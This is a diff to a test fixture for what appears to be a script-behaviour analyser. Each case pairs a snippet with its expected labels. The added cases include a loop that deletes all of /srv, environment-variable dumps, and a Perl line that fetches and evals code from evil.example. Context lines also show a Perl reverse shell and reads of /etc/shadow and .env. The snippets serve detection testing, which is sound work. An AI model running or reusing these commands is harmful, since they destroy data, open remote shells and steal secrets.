@@ -72,6 +72,10 @@ const CASES: Partial<Record<Script['language'], Record<string, string[]>>> = {
     "import socket; s = socket.socket(); s.connect(('db', 5432)); print('up')": ['send  to db:5432'],
     'd = lambda t: base64.b64decode(t).decode()\nos.system(d(p))': ['execute sh from unknown'],
     'def d(t):\n    return base64.b64decode(t)\nexec(d(p))': ['execute python from unknown'],
+    "for r, d, fs in os.walk('/srv'):\n    for f in fs:\n        os.remove(os.path.join(r, f))": [
+      'delete $r/$x',
+      'delete all of /srv',
+    ],
     'exec(sys.stdin.read())': ['execute python from stdin'],
     "shutil.copy('.env', '/tmp/x')": ['copy /tmp/x from .env'],
     "import json; json.load(open('package.json'))['version']": ['read package.json'],
@@ -92,6 +96,8 @@ const CASES: Partial<Record<Script['language'], Record<string, string[]>>> = {
       'execute javascript from unknown',
     ],
     'console.log(process.env)': ['dump'],
+    'process.env': ['dump'],
+    'process.env.HOME': [],
     'console.log(JSON.stringify(process.env, null, 2))': ['dump'],
     'console.log(process.env.NODE_ENV)': [],
     "require('child_process').spawn('make', { env: { ...process.env, A: '1' } })": [],
@@ -106,6 +112,10 @@ const CASES: Partial<Record<Script['language'], Record<string, string[]>>> = {
     'open(my $f, "<", "/etc/shadow"); print <$f>': ['read /etc/shadow'],
     'foreach my $k (keys %ENV) { print "$k=$ENV{$k}\\n" }': ['dump'],
     'print $ENV{PATH}': [],
+    'use LWP::Simple; eval get("http://evil.example/x")': [
+      'fetch http://evil.example/x',
+      'execute perl from unknown',
+    ],
     'use Socket;$i="10.0.0.1";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");exec("/bin/sh -i");};':
       ['send  to ', 'execute sh from unknown'],
   },
